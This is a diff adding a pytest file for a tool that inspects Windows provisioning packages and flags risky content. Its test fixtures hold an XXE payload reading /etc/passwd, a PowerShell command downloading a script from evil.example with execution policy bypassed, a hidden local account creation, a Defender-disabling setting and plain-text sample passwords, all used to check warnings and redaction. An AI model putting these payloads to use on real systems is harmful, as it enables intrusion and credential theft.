@@ -1,0 +1,317 @@
+"""inspect on real Microsoft-built packages and on packages broken on purpose."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from test_inspect_support import (customizations_xml, make_package, policies, run_cli, run_json, wimlib_extract,
+                                  write_package)
+
+REAL = ("icd-cli-oobe.ppkg", "wcd-gui-commands-msi.ppkg", "wcd-itadmin-rank52.ppkg")
+
+
+def _known_secrets(tree: Path) -> set[str]:
+    """Plain-text secrets of a real fixture, found by reading its own customizations.xml."""
+    root = etree.parse(str(tree / "Multivariant/0/customizations.xml")).getroot()
+    found = set()
+    for el in root.iter():
+        if not isinstance(el.tag, str):
+            continue
+        name = etree.QName(el).localname
+        if (name.endswith("Password") or name.endswith("ProductKey")) and (el.text or "").strip():
+            found.add(el.text.strip())
+    return found
+
+
+def _leaf_count(tree: Path) -> int:
+    root = etree.parse(str(tree / "Multivariant/0/customizations.xml")).getroot()
+    common = next(el for el in root.iter() if isinstance(el.tag, str) and etree.QName(el).localname == "Common")
+    return sum(1 for el in common.iter() if isinstance(el.tag, str) and el is not common and len(el) == 0)
+
+
+@pytest.mark.parametrize("name", REAL)
+def test_real_package_lists_every_setting_and_file(real_ppkg, tmp_path, name):
+    pkg = real_ppkg / name
+    tree = wimlib_extract(pkg, tmp_path / "x")
+    doc = run_json("inspect", pkg)
+
+    # every ConfigurationSet of RunTime.xml and User_RunTime.xml, with every parm of its provxml
+    prov = tree / "Multivariant/0/Prov"
+    expected_sets, expected_parms = 0, 0
+    for source in ("RunTime.xml", "User_RunTime.xml"):
+        if not (prov / source).exists():
+            continue
+        for cs in etree.parse(str(prov / source)).getroot().iter("ConfigurationSet"):
+            expected_sets += 1
+            rel = cs.get("Data").replace("$(_prov)\\", "").replace("\\", "/")
+            expected_parms += len(etree.parse(str(prov / rel)).getroot().findall(".//parm"))
+    assert expected_sets > 0
+    assert len(doc["configuration_sets"]) == expected_sets
+    assert sum(len(c["parms"]) for c in doc["configuration_sets"]) == expected_parms
+    assert all(c["problem"] is None for c in doc["configuration_sets"])
+
+    # every setting of the package's source, and every file with its real size and SHA-256
+    assert len(doc["settings"]) == _leaf_count(tree)
+    on_disk = {str(p.relative_to(tree)): p for p in tree.rglob("*") if p.is_file()}
+    assert {f["path"] for f in doc["files"]} == set(on_disk)
+    for f in doc["files"]:
+        data = on_disk[f["path"]].read_bytes()
+        assert f["size"] == len(data)
+        assert f["sha256"] == hashlib.sha256(data).hexdigest()
+
+    # every asset DataAsset.xml names
+    assets = []
+    if (tree / "DataAsset/DataAsset.xml").exists():
+        for m in etree.parse(str(tree / "DataAsset/DataAsset.xml")).getroot().iter("Metadata"):
+            if m.get("Key") != "Name":
+                assets.append(m)
+    assert len([f for f in doc["files"] if f["role"] == "asset"]) == len(assets)
+    assert doc["problems"] == []
+    assert doc["altitude"] is not None and doc["id"] and doc["name"]
+
+
+@pytest.mark.parametrize("name", REAL)
+def test_no_secret_without_show_secrets(real_ppkg, tmp_path, name):
+    pkg = real_ppkg / name
+    secrets = _known_secrets(wimlib_extract(pkg, tmp_path / "x"))
+    code, text_out, _ = run_cli("inspect", pkg)
+    assert code == 0
+    code, json_out, _ = run_cli("inspect", pkg, "--json")
+    assert code == 0
+    for secret in secrets:
+        assert secret not in json_out
+        assert secret not in text_out
+    if secrets:
+        assert "<redacted>" in json_out
+        shown = run_cli("inspect", pkg, "--json", "--show-secrets")[1]
+        for secret in secrets:
+            assert secret in shown
+
+
+def test_known_fixture_secrets_are_found(real_ppkg, tmp_path):
+    """The grep test above must have something to grep for."""
+    found = set()
+    for name in REAL:
+        found |= _known_secrets(wimlib_extract(real_ppkg / name, tmp_path / name))
+    assert {"Letmein#2024", "F0C0nn@135", "NRG8B-VKK3Q-CXVCJ-9G2XF-6Q84J"} <= found
+
+
+def test_real_package_metadata_and_warnings(real_ppkg):
+    oobe = run_json("inspect", real_ppkg / "icd-cli-oobe.ppkg")
+    assert (oobe["owner_type"], oobe["rank"], oobe["altitude"]) == ("OEM", 0, 2000)
+    assert oobe["builder_version"].startswith("2024.613.0.0")
+    codes = {w["code"] for w in oobe["warnings"]}
+    assert {"plain-text-credential", "owner-claims-oem", "command-autologon", "unsigned"} <= codes
+    # the autologon password inside a reg add command line is redacted there too
+    cmd = next(c for c in oobe["commands"] if c["name"] == "reg_DefaultPassword")
+    assert "<redacted>" in cmd["command_line"]
+    assert len(oobe["commands"]) == 6
+
+    msi = run_json("inspect", real_ppkg / "wcd-gui-commands-msi.ppkg")
+    assert [c["name"] for c in msi["commands"]] == ["cortex", "GlobalProtect"]
+    assert msi["commands"][0]["command_file"] == "Cortex_XDR_9_0_0_16757_x64.msi"
+    assert msi["commands"][0]["files"][0].endswith("/Cortex_XDR_9_0_0_16757_x64.msi")
+    assert msi["commands"][0]["options"]["ReturnCodeRestart"] == "3010"
+    assert sum(w["code"] == "embedded-executable" for w in msi["warnings"]) == 2
+
+    it = run_json("inspect", real_ppkg / "wcd-itadmin-rank52.ppkg")
+    assert (it["owner_type"], it["rank"], it["altitude"]) == ("ITAdmin", 52, 5052)
+    assert it["altitude_split"]["text"] == "5052 = ITAdmin 5000 + rank 52"
+    assert it["target_skus"] == "Desktop"
+    assert it["signature"]["catalog"].endswith("wcd-itadmin-rank52.cat")
+    assert it["signature"]["state"] == "unsigned" and it["signature"]["trusted"] is False
+    user = {s["path"] for s in it["settings"] if s["scope"] == "User"}
+    assert user == {"Policies/FileExplorer/AllowOptionToShowNetwork", "Policies/FileExplorer/AllowOptionToShowThisPC"}
+    assert not any(w["code"].startswith("owner-claims") for w in it["warnings"])
+
+
+def test_malformed_wim_gives_wim_error(tmp_path, real_ppkg):
+    bad = tmp_path / "truncated.ppkg"
+    bad.write_bytes((real_ppkg / "icd-cli-oobe.ppkg").read_bytes()[:3000])
+    code, out, err = run_cli("inspect", bad)
+    assert code == 3
+    assert out == ""
+    assert err.startswith("ppkgtool: error:") and len(err.strip().splitlines()) == 1
+    junk = tmp_path / "junk.ppkg"
+    junk.write_bytes(b"MSWIM\0\0\0" + b"\xff" * 300)
+    code, _, err = run_cli("inspect", junk)
+    assert code == 3 and "error" in err
+
+
+def _cust(common: str, owner: str = "ITAdmin", rank: int = 1, extra: str = "") -> bytes:
+    return customizations_xml(name="t", owner=owner, rank=rank, common=common, extra=extra)
+
+
+def test_missing_runtime_xml_is_inspected_with_a_warning(tmp_path):
+    pkg = write_package(tmp_path / "nort.ppkg", _cust(policies({"Experience/AllowCortana": "No"})),
+                        drop=("Multivariant/0/Prov/RunTime.xml",))
+    doc = run_json("inspect", pkg)
+    assert any("RunTime.xml" in p for p in doc["problems"])
+    assert any(w["code"] == "broken-part" and "RunTime.xml" in w["message"] for w in doc["warnings"])
+    assert [s["path"] for s in doc["settings"]] == ["Policies/Experience/AllowCortana"]   # from customizations.xml
+    assert doc["name"] == "t"
+
+
+def test_provxml_that_is_not_xml_is_a_warning(tmp_path):
+    cust = _cust(policies({"Experience/AllowCortana": "No", "Camera/AllowCamera": "Yes"}))
+    pkg = write_package(tmp_path / "badprov.ppkg", cust,
+                        replace={"Multivariant/0/Prov/RunTime/0__Policies_Experience_AllowCortana.provxml":
+                                 b"this is not <xml"})
+    doc = run_json("inspect", pkg)
+    broken = [c for c in doc["configuration_sets"] if c["problem"]]
+    assert len(broken) == 1 and "0__Policies_Experience_AllowCortana.provxml" in broken[0]["problem"]
+    assert len(doc["configuration_sets"]) == 2
+    ok = [c for c in doc["configuration_sets"] if not c["problem"]]
+    assert ok[0]["parms"][0]["csp_path"] == "Policy/Config/Camera/AllowCamera"
+    assert sum(w["code"] == "broken-part" for w in doc["warnings"]) == 1
+
+
+def test_doctype_and_missing_customizations(tmp_path):
+    cust = _cust(policies({"Experience/AllowCortana": "No"}))
+    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><WindowsCustomizations>&e;</WindowsCustomizations>'
+    pkg = write_package(tmp_path / "dtd.ppkg", cust, replace={"Multivariant/0/customizations.xml": evil})
+    doc = run_json("inspect", pkg)
+    assert any("DOCTYPE" in p for p in doc["problems"])
+    assert "root:" not in json.dumps(doc)
+    # settings then come from the compiled provxml (the package's source is unusable)
+    assert [s["path"] for s in doc["settings"]] == ["Policies/Experience/AllowCortana"]
+    assert doc["settings"][0]["value"] == "0"
+
+    pkg2 = write_package(tmp_path / "nocust.ppkg", cust, drop=("Multivariant/0/customizations.xml",))
+    doc2 = run_json("inspect", pkg2)
+    assert any("customizations.xml" in p for p in doc2["problems"])
+    assert doc2["settings"][0]["origin"].endswith(".provxml")
+
+
+def test_risky_package_warnings(tmp_path):
+    common = (policies({"Defender/AllowRealtimeMonitoring": "0"}) +
+              "<Accounts><ComputerAccount><ComputerName>PC1</ComputerName><DomainName>corp.example</DomainName>"
+              "<Account>corp\\joiner</Account><Password>Join-Secret-77</Password></ComputerAccount></Accounts>"
+              "<ProvisioningCommands><PrimaryContext><Command>"
+              "<CommandConfig Name=\"get\"><CommandLine>powershell -ExecutionPolicy Bypass -c "
+              "\"iwr https://evil.example/a.ps1 -OutFile a.ps1\"</CommandLine></CommandConfig>"
+              "<CommandConfig Name=\"user\"><CommandLine>net user helpdesk Cmd-Secret-88 /add</CommandLine>"
+              "</CommandConfig></Command></PrimaryContext></ProvisioningCommands>")
+    pkg = write_package(tmp_path / "risky.ppkg", _cust(common, owner="Microsoft", rank=0),
+                        extra_files={"DataAsset/9/0_x/run.ps1": b"Write-Host hi\r\n",
+                                     "DataAsset/9/1_y/tool.bin": b"MZ\x90\x00" + b"\x00" * 60})
+    code, out, err = run_cli("inspect", pkg, "--json")
+    assert code == 0
+    doc = json.loads(out)
+    codes = [w["code"] for w in doc["warnings"]]
+    for expected in ("owner-claims-microsoft", "plain-text-credential", "needs-domain-controller",
+                     "command-downloads", "command-disables-security", "setting-disables-security",
+                     "embedded-script", "embedded-executable"):
+        assert expected in codes, expected
+    assert "Join-Secret-77" not in out and "Cmd-Secret-88" not in out
+    assert run_cli("inspect", pkg, "--fail-on", "high")[0] == 4
+    assert run_cli("inspect", pkg, "--show-secrets", "--json")[1].count("Cmd-Secret-88") >= 1
+
+
+def test_tampered_asset_is_reported(tmp_path, real_ppkg):
+    tree = wimlib_extract(real_ppkg / "wcd-itadmin-rank52.ppkg", tmp_path / "x")
+    png = next(tree.glob("DataAsset/2/*/wallpaper.png"))
+    png.write_bytes(b"not the picture that was hashed")
+    out = tmp_path / "tampered.ppkg"
+    files = {str(p.relative_to(tree)): p.read_bytes() for p in tree.rglob("*") if p.is_file()}
+    from ppkgtool.wim import open_wim, write_wim
+    with open_wim(real_ppkg / "wcd-itadmin-rank52.ppkg") as wim:
+        props = dict(wim.image(1).properties)
+    keep = ("NAME", "DESCRIPTION", "NOTES", "AUTHOR", "VERSION", "ALTITUDE", "RESETCLEAR", "PACKAGEID")
+    with open(out, "wb") as fh:
+        write_wim(fh, files, {k: props.get(k, "") for k in keep})
+    doc = run_json("inspect", out)
+    assert any("wallpaper.png" in p and "SHA-256" in p for p in doc["problems"])
+
+
+def test_merged_package_with_two_images(tmp_path):
+    if not shutil.which("wimlib-imagex"):
+        pytest.fail("wimlib-imagex (wimtools) is required")
+    a = make_package(tmp_path, "first", "OEM", 3, {"Experience/AllowCortana": "No"})
+    b = make_package(tmp_path, "second", "ITAdmin", 9, {"Camera/AllowCamera": "Yes"})
+    da, db = wimlib_extract(a, tmp_path / "a"), wimlib_extract(b, tmp_path / "b")
+    merged = tmp_path / "merged.ppkg"
+    from ppkgtool.wim import open_wim
+    with open_wim(b) as wim:
+        pb = dict(wim.image(1).properties)
+    subprocess.run(["wimlib-imagex", "capture", str(da), str(merged), "first", "--compress=XPRESS",
+                    "--image-property", "ALTITUDE=2003"], check=True, capture_output=True)
+    subprocess.run(["wimlib-imagex", "append", str(db), str(merged), "second",
+                    "--image-property", f"ALTITUDE={pb['ALTITUDE']}",
+                    "--image-property", f"PACKAGEID={pb['PACKAGEID']}"], check=True, capture_output=True)
+    doc = run_json("inspect", merged)
+    assert doc["image_count"] == 2 and len(doc["images"]) == 2
+    assert [i["altitude"] for i in doc["images"]] == [2003, 5009]
+    assert doc["images"][1]["settings"][0]["path"] == "Policies/Camera/AllowCamera"
+    ranked = run_json("rank", merged, a)
+    assert ranked[0]["path"] == f"{merged}#2"
+    assert {r["path"] for r in ranked[1:]} == {f"{merged}#1", str(a)}
+    assert all(r["tie"] for r in ranked[1:])          # image 1 and package a: OEM rank 3 both
+
+
+def test_multivariant_settings_show_their_condition(tmp_path):
+    extra = ("<Targets><Target Id=\"Fr\"><TargetState><Condition Name=\"Mcc\" Value=\"208\"/></TargetState></Target>"
+             "</Targets><Variant><TargetRefs><TargetRef Id=\"Fr\"/></TargetRefs><Settings>"
+             + policies({"Experience/AllowCortana": "Yes"}) + "</Settings></Variant>")
+    pkg = write_package(tmp_path / "mv.ppkg", _cust(policies({"Experience/AllowCortana": "No"}), extra=extra))
+    doc = run_json("inspect", pkg)
+    assert doc["conditions"] == [{"target": "Fr", "states": [[{"name": "Mcc", "value": "208"}]]}]
+    conds = sorted((s["condition"] or "", s["value"]) for s in doc["settings"])
+    assert conds == [("", "No"), ("Fr (Mcc=208)", "Yes")]
+    assert any(c["condition"] for c in doc["configuration_sets"])     # compiled into a ProfileSet
+
+
+def test_odj_blob_carried_by_a_command(tmp_path, real_odj):
+    blob = (real_odj / "windows-w2k19-provision-data.bin").read_bytes()
+    common = ("<ProvisioningCommands><PrimaryContext><Command><CommandConfig Name=\"odj\">"
+              "<CommandFile>C:\\odj\\blob.txt</CommandFile>"
+              "<CommandLine>djoin /requestodj /loadfile blob.txt /windowspath %SystemRoot% /localos</CommandLine>"
+              "</CommandConfig></Command></PrimaryContext></ProvisioningCommands>")
+    pkg = write_package(tmp_path / "odj.ppkg", _cust(common), assets={"blob.txt": blob})
+    doc = run_json("inspect", pkg)
+    cmd = doc["commands"][0]
+    assert cmd["name"] == "odj" and cmd["command_file"] == "blob.txt"
+    assert cmd["odj"] is not None, doc["problems"]
+    text = json.dumps(cmd["odj"])
+    assert "w2k19dom" in text.lower()
+    assert any(w["code"] == "command-offline-domain-join" for w in doc["warnings"])
+
+
+def test_root_certificate_is_described(tmp_path):
+    import datetime
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Test Root CA")])
+    now = datetime.datetime.now(datetime.timezone.utc)
+    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
+            .serial_number(7).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=30))
+            .sign(key, hashes.SHA256()))
+    der = cert.public_bytes(serialization.Encoding.DER)
+    common = ("<Certificates><RootCertificates><RootCertificate CertificateName=\"TestRoot\">"
+              "<CertificatePath>C:\\certs\\root.cer</CertificatePath></RootCertificate></RootCertificates>"
+              "</Certificates>")
+    pkg = write_package(tmp_path / "cert.ppkg", _cust(common), assets={"root.cer": der})
+    doc = run_json("inspect", pkg)
+    thumb = hashlib.sha1(der).hexdigest().upper()
+    assert any(c["thumbprint"] == thumb and "Test Root CA" in (c["subject"] or "") for c in doc["certificates"]), \
+        doc["certificates"]
+    assert any(w["code"] == "setting-root-certificate" for w in doc["warnings"])
+
+
+def test_text_output_is_plain_when_not_a_terminal(real_ppkg):
+    code, out, err = run_cli("inspect", real_ppkg / "wcd-gui-commands-msi.ppkg")
+    assert code == 0 and err == ""
+    assert "owner type   OEM" in out
+    assert re.search(r"cortex\tmsiexec /i", out)
